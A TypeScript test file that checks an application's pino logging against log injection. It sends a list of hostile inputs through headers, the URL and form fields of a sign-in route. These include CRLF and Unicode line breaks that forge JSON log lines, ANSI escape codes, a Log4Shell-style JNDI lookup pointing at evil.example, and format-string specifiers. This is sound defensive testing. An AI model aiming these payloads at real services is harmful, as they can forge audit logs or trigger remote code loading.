import { expect } from "chai";
import { pino } from "pino";
import { log } from "../../app/base/index.ts";
import { logOptions } from "../../app/base/log.ts";
import { anOfficer } from "../support/builders.ts";
import { sandboxed } from "../support/sandbox.ts";
import { siteOrigin, visitAs } from "../support/visit.ts";

const forged = `{"level":"info","msg":"forged"}`;
const breaks = [
  `x\r\n${forged}`,
  `x\n${forged}`,
  `x\u2028${forged}`,
  `x\u0085${forged}`,
  "x\u001b[2J\u001b[31mred",
  'x","level":"fatal","y":"',
  "x\u0000\u0008\u007f\u009b31m",
  "${jndi:ldap://evil.example/a}",
  "%s%n%x%p",
];

function written(write: (line: pino.Logger) => void): string {
  let text = "";
  write(pino({ ...logOptions, level: "info" }, { write: (line: string) => (text += line) }));
  return text;
}

describe("Lines of the log", () => {
  sandboxed();

  it("stay one line of JSON each, whatever stands in an error or a value", () => {
    for (const text of breaks) {
      const failure = Object.assign(new Error(text), { code: text, constraint: text });
      const line = written((one) => one.error({ err: failure, requestId: text }, "Failed"));
      expect(line.match(/\n/g)).to.have.length(1);
      expect(line.trimEnd()).not.to.match(/\p{Cc}/u);
      expect(JSON.parse(line)).to.include({ level: "error", msg: "Failed" });
    }
  });

  it("say who, what, when with its zone, and how it ended; in one form", () => {
    const line = written((one) => one.info({ requestId: "0190-abc", status: 200 }, "Answered"));
    const said = JSON.parse(line) as Record<string, unknown>;
    expect(said).to.have.all.keys("level", "time", "role", "requestId", "status", "msg");
    expect(said["time"]).to.match(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/);
  });

  it("hold nothing of what a stranger wrote into address, header or form", async () => {
    const lines: string[] = [];
    const target = log as unknown as Record<string, (...said: readonly object[]) => void>;
    const before = { info: target["info"], warn: target["warn"], error: target["error"] };
    for (const level of ["info", "warn", "error"] as const) {
      target[level] = (...said) => lines.push(JSON.stringify(said));
    }
    try {
      for (const text of breaks) {
        await ask(`forged-${encodeURIComponent(text)}`);
      }
    } finally {
      Object.assign(target, before);
    }
    expect(lines.length).to.be.at.least(breaks.length);
    expect(lines.join("\n")).not.to.match(/forged|jndi|evil|%n|\[31m/);
  });

  it("name the account that was refused, and at which route", async () => {
    const officer = await anOfficer();
    const said: object[] = [];
    const target = log as unknown as { info: (line: object) => void };
    const before = target.info;
    target.info = (line) => said.push(line);
    try {
      await (await visitAs(officer)).get("/accounts");
    } finally {
      target.info = before;
    }
    expect(said).to.have.length(1);
    expect(said[0]).to.include({ status: 403, route: "/accounts", account: officer.accountId });
  });

  async function ask(text: string): Promise<void> {
    await fetch(`${await siteOrigin()}/sign-in?next=/${text}`, {
      method: "POST",
      redirect: "manual",
      headers: { "user-agent": text, "x-request-id": text, "x-forwarded-for": text, referer: text },
      body: new URLSearchParams({ login: text, password: text }),
    });
  }
});
